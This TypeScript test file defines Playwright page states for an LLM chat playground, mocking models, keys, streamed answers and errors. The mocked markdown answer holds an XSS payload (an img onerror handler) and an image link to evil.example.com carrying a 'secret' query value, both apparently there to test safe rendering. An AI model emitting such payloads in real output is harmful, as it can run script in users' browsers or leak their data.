/** The states of the Playground. */
import type { Page } from 'playwright-core';
import { type Answers, data, type PageState, refusal, somebody } from './page-states.ts';

const model = (id: string, modalities: readonly string[] = ['text']) => ({
  ...{ id, name: id, architecture: { input_modalities: modalities }, supported_parameters: ['tools'] },
});
const MODELS = [
  model('anthropic/claude-sonnet-4.5', ['text', 'image']),
  model('openai/gpt-4o-mini'),
  model('google/gemini-3-pro'),
  model('a-vendor-with-a-long-name/a-model-with-a-name-that-goes-on-and-on-2026-11-20-preview'),
];
const key = (changes: object) => ({
  ...{ hash: 'a'.repeat(64), name: 'Playground', label: 'sk-or-v1-abc…123', disabled: false },
  ...{ expires_at: null, limit_remaining: 4.2, is_delegated: false, creator_user_id: 'user-1' },
  ...changes,
});

const chunk = (delta: object, more: object = {}) =>
  `data: ${JSON.stringify({ id: 'gen-1', provider: 'Anthropic', choices: [{ delta, finish_reason: null }], ...more })}\n\n`;
const END = [
  chunk({}, { choices: [{ delta: {}, finish_reason: 'stop' }] }),
  chunk(
    {},
    {
      choices: [],
      usage: {
        ...{ prompt_tokens: 1204, completion_tokens: 311, cost: 0.00412 },
        completion_tokens_details: { reasoning_tokens: 120 },
      },
    },
  ),
  'data: [DONE]\n\n',
].join('');
const TEXT = `# Bridges

A **truss** carries a load by *tension and compression*; see [the theory](https://example.com/truss) and \`stress()\`.

1. Choose the span
2. Choose the height
   - a tenth of it
   - or less

| Kind | Span | Members |
|---|---:|---|
| Warren | 60 m | equilateral triangles, as many as it takes, and one more for good measure |

\`\`\`python
def stress(force: float, area: float) -> float:
    return force / area  # a line that is far too long for any phone, and that therefore scrolls by itself
\`\`\`

> Measure twice.

<img src=x onerror="document.title='owned'"> ![a picture](https://evil.example.com/x.png?q=secret)
`;
const ANSWERED = chunk({ reasoning: 'They ask of bridges.' }) + chunk({ content: TEXT }) + END;

const READY: Answers = {
  ...somebody({ role: 'member' }),
  'GET /api/v1/models': data(MODELS),
  'GET /api/dashboard/keys': data([key({}), key({ hash: 'b'.repeat(64), name: 'Notebook' })]),
};
const CHAT = 'POST /api/dashboard/chat/completions';

const ask =
  (text: string, then?: (page: Page) => Promise<unknown>) =>
  async (page: Page): Promise<void> => {
    // What the state before has kept in this tab.
    const anew = page.getByRole('button', { name: 'New conversation' });
    if (await anew.isVisible()) await anew.click();
    await page.getByRole('textbox', { name: 'Your message' }).fill(text);
    await page.getByRole('button', { name: 'Send' }).click();
    await then?.(page);
  };
const forget = async (page: Page): Promise<void> => {
  await page.evaluate('sessionStorage.clear()');
  await page.reload();
  await page.locator('h1').first().waitFor();
};
const TWO = '/playground?models=anthropic/claude-sonnet-4.5,openai/gpt-4o-mini';

export const playground: readonly PageState[] = [
  { name: 'playground', path: '/playground', answers: READY, act: forget, shows: 'Paid by' },
  {
    name: 'playground-keyless',
    path: '/playground',
    answers: { ...READY, 'GET /api/dashboard/keys': data([]) },
    shows: 'Make a key for it',
  },
  {
    name: 'playground-modelless',
    path: '/playground',
    answers: { ...READY, 'GET /api/v1/models': data([]) },
    shows: 'No model to talk to',
  },
  {
    name: 'playground-broken',
    path: '/playground',
    answers: { ...READY, 'GET /api/v1/models': refusal(503, 'unavailable', 'no') },
    shows: 'The Playground could not be loaded',
  },
  {
    name: 'playground-parameters',
    path: `${TWO}&temperature=0.7&effort=high&order=anthropic,bedrock`,
    answers: READY,
    act: async (page) => {
      await forget(page);
      await page.getByText('System prompt and parameters').click();
      await page.getByRole('textbox', { name: 'Tools' }).fill('{');
    },
    shows: 'This is no JSON list',
  },
  {
    name: 'playground-streaming',
    path: TWO,
    answers: { ...READY, [CHAT]: { stream: chunk({ content: 'A truss is' }), ends: false } },
    act: async (page) => {
      await forget(page);
      await ask('What holds a bridge?')(page);
    },
    shows: 'A truss is',
  },
  {
    name: 'playground-answered',
    path: TWO,
    answers: { ...READY, [CHAT]: { stream: ANSWERED, ends: true } },
    act: async (page) => {
      await forget(page);
      await ask('What holds a bridge?')(page);
    },
    shows: 'In the log',
  },
  {
    name: 'playground-called',
    path: '/playground?models=openai/gpt-4o-mini',
    answers: {
      ...READY,
      [CHAT]: {
        stream:
          chunk({
            tool_calls: [{ index: 0, id: 'call_1', function: { name: 'weather', arguments: '{"city":' } }],
          }) +
          chunk({ tool_calls: [{ index: 0, function: { arguments: '"Köln"}' } }] }) +
          END,
        ends: true,
      },
    },
    act: async (page) => {
      await forget(page);
      await ask('How is the weather in Köln?')(page);
    },
    shows: 'Send results',
  },
  {
    name: 'playground-refused',
    path: TWO,
    answers: {
      ...READY,
      [CHAT]: refusal(
        402,
        'key_limit_exceeded',
        'Key limit exceeded (total limit). Manage it on the keys page.',
      ),
    },
    act: async (page) => {
      await forget(page);
      await ask('What holds a bridge?')(page);
    },
    shows: 'Open the key',
    isBroken: true,
  },
  {
    name: 'playground-code',
    path: `${TWO}&temperature=0.7`,
    answers: READY,
    act: async (page) => {
      await forget(page);
      await page.getByRole('button', { name: 'View code' }).click();
      await page.getByRole('tab', { name: '@openrouter/sdk' }).click();
    },
    shows: "import { OpenRouter } from '@openrouter/sdk';",
  },
];
